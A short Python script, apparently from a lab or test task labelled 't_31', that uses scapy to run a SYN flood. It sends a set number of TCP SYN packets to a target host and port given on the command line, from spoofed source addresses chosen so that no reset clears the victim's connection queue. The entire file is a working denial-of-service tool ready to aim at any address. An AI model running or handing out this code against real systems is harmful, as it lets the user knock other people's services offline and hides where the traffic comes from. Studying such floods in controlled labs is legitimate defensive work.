"""SYN flood for t_31: COUNT SYNs to DST:PORT from spoofed sources in
SRCNET (addresses nobody answers, so no RST empties the victim's queue),
sent through IFACE with scapy. Bounded: COUNT packets, then exit."""
import random
import sys

from scapy.all import IP, TCP, conf, send  # noqa: E402

conf.verb = 0
dst, port, count, srcnet, iface = (sys.argv[1], int(sys.argv[2]),
                                   int(sys.argv[3]), sys.argv[4],
                                   sys.argv[5])
base = srcnet.rsplit(".", 1)[0]
pkts = []
rnd = random.Random(6)
for i in range(count):
    src = "%s.%d" % (base, 100 + i % 100)
    pkts.append(IP(src=src, dst=dst) /
                TCP(sport=1024 + i, dport=port, flags="S",
                    seq=rnd.getrandbits(32),
                    options=[("MSS", 1460)]))
send(pkts, iface=iface, inter=0)
print("sent %d SYNs" % count)
